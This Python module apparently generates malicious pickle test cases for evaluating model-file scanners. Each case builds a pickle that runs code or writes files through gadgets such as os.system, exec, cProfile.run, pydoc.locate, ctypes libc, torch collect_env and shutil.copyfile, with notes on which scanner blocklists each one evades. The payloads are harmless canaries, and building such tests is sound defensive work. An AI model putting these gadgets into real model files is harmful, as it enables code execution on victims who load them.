"""Gadgets: functions an unpickler can be made to call that run code or write files.

The classic REDUCE gadgets, the stdlib and ML-library functions from the
scanners' advisories, and file-creating constructors (write primitives).
"""

from __future__ import annotations

import builtins
import functools
import importlib
import marshal
import os
import pkgutil
import runpy
import subprocess
from pathlib import Path

from .assembler import Call, Global, Opcodes, dumps
from .cases import MaliciousCase
from .registry import Canary, pickle_case, technique

# --- the classic REDUCE gadgets -----------------------------------------------------------


@technique
def os_system_reduce(directory: Path, canary: Canary) -> MaliciousCase:
    return pickle_case(
        directory,
        "os_system_reduce",
        dumps(Call(os.system, canary.shell)),
        technique="An object whose __reduce__ returns os.system and a command: the unpickler "
        "imports posix.system (os.system's real module) and calls it (REDUCE).",
        source="The canonical pickle RCE (Python docs' pickle warning); picklescan "
        "tests/data/malicious2*.pkl; the JFrog-reported baller423 Hugging Face models (2024).",
    )


@technique
def subprocess_run(directory: Path, canary: Canary) -> MaliciousCase:
    return pickle_case(
        directory,
        "subprocess_run",
        dumps(Call(subprocess.run, canary.argv)),
        technique="subprocess.run with an argument list (no shell) called by REDUCE.",
        source="picklescan tests/data/malicious8.pkl (subprocess.run).",
    )


@technique
def builtins_exec(directory: Path, canary: Canary) -> MaliciousCase:
    return pickle_case(
        directory,
        "builtins_exec",
        dumps(Call(builtins.exec, canary.python)),
        technique="builtins.exec of a Python source string.",
        source="picklescan tests/data/malicious10.pkl; fickling's README example.",
    )


@technique
def compile_then_exec(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(builtins.exec, Call(builtins.compile, canary.python, "<weights>", "exec"))
    return pickle_case(
        directory,
        "compile_then_exec",
        dumps(payload),
        technique="Nested REDUCEs: builtins.compile builds a code object from source, "
        "builtins.exec runs it; the result of one call is the argument of the next.",
        source="picklescan tests/data/malicious0.pkl (compile, apply, getattr, globals, eval).",
    )


@technique
def runpy_run_code(directory: Path, canary: Canary) -> MaliciousCase:
    return pickle_case(
        directory,
        "runpy_run_code",
        dumps(Call(runpy._run_code, canary.python, {})),  # type: ignore[attr-defined]
        technique="runpy._run_code, a private helper that exec()s its first argument.",
        source="picklescan tests/data/malicious14.pkl; fickling GHSA-wfq2-52f7-7qvj (runpy).",
    )


# --- stdlib gadgets that run code ----------------------------------------------------------


@technique
def code_interpreter_unbound_method(directory: Path, canary: Canary) -> MaliciousCase:
    interpreter = Call(Global("code", "InteractiveInterpreter"))
    payload = Call(Global("code", "InteractiveInterpreter.runsource"), interpreter, canary.python)
    return pickle_case(
        directory,
        "code_interpreter_unbound_method",
        dumps(payload),
        technique="An unbound method by dotted name, code.InteractiveInterpreter.runsource, "
        "called with an interpreter built by an earlier REDUCE as self.",
        source="picklescan GHSA-cj3c-v495-4xqh (code.InteractiveInterpreter.runcode); "
        "fickling GHSA-q5qq-mvfm-j35x (code.InteractiveInterpreter).",
    )


@technique
def timeit_setup_string(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(
        Global("timeit", "timeit"), "pass", canary.python, Global("time", "perf_counter"), 1
    )
    return pickle_case(
        directory,
        "timeit_setup_string",
        dumps(payload),
        technique="timeit.timeit(stmt='pass', setup=<payload>, number=1): the payload hides "
        "in the setup string.",
        source="picklescan GHSA-v7x6-rv5q-mhwc and tests/data2/malicious21.pkl (timeit.timeit); "
        "ModelAudit bypass POC 28.",
    )


@technique
def cprofile_run(directory: Path, canary: Canary) -> MaliciousCase:
    return pickle_case(
        directory,
        "cprofile_run",
        dumps(Call(Global("cProfile", "run"), canary.python)),
        technique="cProfile.run(statement) profiles, i.e. exec()s, its statement.",
        source="picklescan GHSA-49gj-c84q-6qm9; fickling GHSA-p523-jq9w-64x9 (cProfile.run).",
    )


@technique
def bdb_run_via_getattr(directory: Path, canary: Canary) -> MaliciousCase:
    debugger = Call(Global("bdb", "Bdb"))
    run = Call(Global("builtins", "getattr"), debugger, "run")
    return pickle_case(
        directory,
        "bdb_run_via_getattr",
        dumps(Call(run, canary.python)),
        technique="builtins.getattr(bdb.Bdb(), 'run') fetches a bound method of a debugger "
        "built by REDUCE; calling it exec()s the statement under the (no-op) debugger.",
        source="picklescan tests/data (bdb.Bdb, bdb.Bdb.run); modelscan lists bdb and pdb.",
    )


@technique
def trace_runctx(directory: Path, canary: Canary) -> MaliciousCase:
    tracer = Call(Global("trace", "Trace"), 0, 0)  # count=0, trace=0: runs without tracing
    payload = Call(Global("trace", "Trace.runctx"), tracer, canary.python, {}, {})
    return pickle_case(
        directory,
        "trace_runctx",
        dumps(payload),
        technique="trace.Trace.runctx(tracer, statement, globals, locals) exec()s the statement.",
        source="picklescan GHSA-g344-hcph-8vgg (trace.Trace.runctx), GHSA-5qwp-399c-mjwf "
        "(trace.Trace.run).",
    )


@technique
def importlib_import_module(directory: Path, canary: Canary) -> MaliciousCase:
    module = Call(importlib.import_module, "os")
    system = Call(Global("builtins", "getattr"), module, "system")
    return pickle_case(
        directory,
        "importlib_import_module",
        dumps(Call(system, canary.shell)),
        technique="importlib.import_module('os') then builtins.getattr(module, 'system'): no "
        "global names os at all.",
        source="fickling GHSA-q5qq-mvfm-j35x (importlib); picklescan issue #66.",
    )


@technique
def pkgutil_resolve_name(directory: Path, canary: Canary) -> MaliciousCase:
    system = Call(pkgutil.resolve_name, "os:system")
    return pickle_case(
        directory,
        "pkgutil_resolve_name",
        dumps(Call(system, canary.shell)),
        technique="pkgutil.resolve_name('os:system') returns any object by name: one "
        "unlisted function reaches every listed one.",
        source="picklescan GHSA-vvpj-8cmc-gx39 (universal blocklist bypass, CVSS 10).",
    )


@technique
def pydoc_locate(directory: Path, canary: Canary) -> MaliciousCase:
    system = Call(Global("pydoc", "locate"), "posix.system")
    return pickle_case(
        directory,
        "pydoc_locate",
        dumps(Call(system, canary.shell)),
        technique="pydoc.locate('posix.system') resolves a dotted path to an object.",
        source="picklescan GHSA-84r2-jw7c-4r5q; fickling GHSA-5hvc-6wx8-mvv4 (pydoc.locate).",
    )


@technique
def operator_methodcaller(directory: Path, canary: Canary) -> MaliciousCase:
    module = Call(Global("builtins", "__import__"), "os")
    caller = Call(Global("_operator", "methodcaller"), "system", canary.shell)
    return pickle_case(
        directory,
        "operator_methodcaller",
        dumps(Call(caller, module)),
        technique="_operator.methodcaller('system', cmd) applied to __import__('os'): the C "
        "module's name, not 'operator', so 'operator' blocklists miss it.",
        source="picklescan GHSA-955r-x9j8-7rhh (_operator.methodcaller).",
    )


@technique
def operator_attrgetter(directory: Path, canary: Canary) -> MaliciousCase:
    module = Call(Global("builtins", "__import__"), "os")
    system = Call(Call(Global("_operator", "attrgetter"), "system"), module)
    return pickle_case(
        directory,
        "operator_attrgetter",
        dumps(Call(system, canary.shell)),
        technique="_operator.attrgetter('system')(__import__('os')) fetches os.system as an "
        "attribute, then REDUCE calls it.",
        source="picklescan GHSA-46h3-79wf-xr6c (_operator.attrgetter).",
    )


@technique
def functools_partial_setstate(directory: Path, canary: Canary) -> MaliciousCase:
    # Pickling a real partial writes partial(os.system) and fills its args through
    # BUILD (partial.__setstate__); the outer Call then invokes it with no arguments.
    partial = functools.partial(os.system, canary.shell)
    return pickle_case(
        directory,
        "functools_partial_setstate",
        dumps(Call(partial)),
        technique="A functools.partial(os.system) whose command is set by BUILD "
        "(partial.__setstate__), then called with no arguments.",
        source="picklescan tests/data (functools.partial); fickling PR #210 "
        "('functools.partial wrapper bypass').",
    )


@technique
def ctypes_libc_system(directory: Path, canary: Canary) -> MaliciousCase:
    libc = Call(Global("ctypes", "CDLL"), None)  # the running process: libc is in it
    system = Call(Global("ctypes", "CDLL.__getitem__"), libc, "system")
    return pickle_case(
        directory,
        "ctypes_libc_system",
        dumps(Call(system, canary.shell.encode())),
        technique="ctypes.CDLL(None) opens the process' own symbols; CDLL.__getitem__ "
        "fetches libc's system(), called with a bytes command.",
        source="picklescan GHSA-4675-36f9-wf6r (ctypes.CDLL); fickling GHSA-q5qq-mvfm-j35x "
        "and GHSA-5hvc-6wx8-mvv4 (ctypes); ModelAudit bypass POC 25.",
    )


@technique
def pty_spawn_build_trick(directory: Path, canary: Canary) -> MaliciousCase:
    call = dumps(Call(Global("pty", "spawn"), canary.argv))
    # As in the advisory: a BUILD on the call's result makes it look "used" to
    # fickling's unused-variable heuristic (the BUILD itself fails, after the payload).
    data = call[:-1] + Opcodes(protocol=None).unicode("gottem").build().stop().bytes()
    return pickle_case(
        directory,
        "pty_spawn_build_trick",
        data,
        technique="pty.spawn(['touch', canary]) runs a program under a pseudo-terminal; a "
        "BUILD on its result hides it from unused-result heuristics.",
        source="fickling GHSA-r7v6-mfhq-g3m2 and PR #108 (pty.spawn); picklescan "
        "GHSA-vqmv-47xg-9wpr.",
    )


@technique
def asyncio_subprocess_transport(directory: Path, canary: Canary) -> MaliciousCase:
    start = Global("asyncio.unix_events", "_UnixSubprocessTransport._start")
    # self is a dict: Popen starts, then assigning self._proc fails, after the fact.
    payload = Call(start, {}, canary.shell, True, None, None, None, 0)
    return pickle_case(
        directory,
        "asyncio_subprocess_transport",
        dumps(payload),
        technique="asyncio.unix_events._UnixSubprocessTransport._start, a private method, "
        "called with a dict as self: it runs subprocess.Popen(cmd, shell=True).",
        source="picklescan GHSA-f7qq-56ww-84cr / CVE-2025-10157 (JFrog, 'unsafe globals' "
        "subclass bypass); fickling PR #210.",
        settle_seconds=1.0,
    )


@technique
def uuid_get_command_stdout(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(Global("uuid", "_get_command_stdout"), *canary.argv)
    return pickle_case(
        directory,
        "uuid_get_command_stdout",
        dumps(payload),
        technique="uuid._get_command_stdout(program, *args), a private helper that runs a "
        "program found on PATH and waits for it.",
        source="picklescan GHSA-g38g-8gr9-h9xp (uuid, _osx_support, _aix_support, ...); "
        "fickling GHSA-5hwf-rc88-82xm.",
    )


@technique
def numpy_testing_runstring(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(Global("numpy.testing._private.utils", "runstring"), canary.python, {})
    return pickle_case(
        directory,
        "numpy_testing_runstring",
        dumps(payload),
        technique="numpy.testing._private.utils.runstring(source, dict) exec()s its source: a "
        "code-execution gadget inside the numpy namespace that allowlists trust.",
        source="picklescan tests/data2/malicious22.pkl (numpy runstring).",
    )


@technique
def torch_collect_env_run(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(Global("torch.utils.collect_env", "run"), canary.shell)
    return pickle_case(
        directory,
        "torch_collect_env_run",
        dumps(payload),
        technique="torch.utils.collect_env.run(command) runs a shell command: a gadget inside "
        "the torch namespace that 'allow torch.*' rules trust.",
        source="picklescan GHSA-f745-w6jp-hpxx (torch.utils.collect_env.run); modelscan "
        "issue #338.",
    )


@technique
def marshal_code_function_type(directory: Path, canary: Canary) -> MaliciousCase:
    code = compile(canary.python, "<weights>", "exec")
    function = Call(Global("types", "FunctionType"), Call(marshal.loads, marshal.dumps(code)), {})
    return pickle_case(
        directory,
        "marshal_code_function_type",
        dumps(Call(function)),
        technique="marshal.loads rebuilds a code object from bytes, types.FunctionType wraps "
        "it, REDUCE calls it: no source string anywhere in the file.",
        source="fickling GHSA-565g-hwwr-4pp3 (marshal and types); picklescan "
        "tests/data2/types_CodeType.pkl.",
    )


@technique
def copyreg_reconstructor_filehandler(directory: Path, canary: Canary) -> MaliciousCase:
    filehandler = Global("logging", "FileHandler")
    payload = Call(Global("copy_reg", "_reconstructor"), filehandler, filehandler, str(canary.path))
    return pickle_case(
        directory,
        "copyreg_reconstructor_filehandler",
        dumps(payload, protocol=2),
        technique="copy_reg._reconstructor(cls, base, state) calls base.__init__(obj, state): "
        "with logging.FileHandler as base it opens (creates) the canary. copy_reg, the "
        "Python 2 name, is on every allowlist because protocol 0/1 objects use it.",
        source="picklescan tests/data2/logging_FileHandler.pkl (FileHandler creates files); "
        "copyreg._reconstructor abuse through a dangerous base class.",
    )


# --- file-creating constructors (write primitives) ----------------------------------------


@technique
def shutil_copyfile(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(Global("shutil", "copyfile"), os.devnull, str(canary.path))
    return pickle_case(
        directory,
        "shutil_copyfile",
        dumps(payload),
        technique="shutil.copyfile writes a file anywhere (here: an empty copy of /dev/null "
        "as the canary); overwriting a .py file or a shell rc file turns it into code execution.",
        source="google/saferpickle issue #1 (Trail of Bits: shutil missing from the blocklist); "
        "fickling PR #210.",
    )


@technique
def io_fileio_create(directory: Path, canary: Canary) -> MaliciousCase:
    return pickle_case(
        directory,
        "io_fileio_create",
        dumps(Call(Global("_io", "FileIO"), str(canary.path), "w")),
        technique="_io.FileIO(path, 'w') creates or truncates any file the user can write.",
        source="picklescan tests/data2/io_FileIO.pkl; fickling test_io_fileio.",
    )


@technique
def sqlite3_connect_creates_file(directory: Path, canary: Canary) -> MaliciousCase:
    return pickle_case(
        directory,
        "sqlite3_connect_creates_file",
        dumps(Call(Global("sqlite3", "connect"), str(canary.path))),
        technique="sqlite3.connect(path) creates the database file (a write primitive outside "
        "every scanner's list of file-writing functions).",
        source="The file-creating constructor class of picklescan's io_FileIO and "
        "logging_FileHandler additions, with a stdlib function none of them lists.",
    )
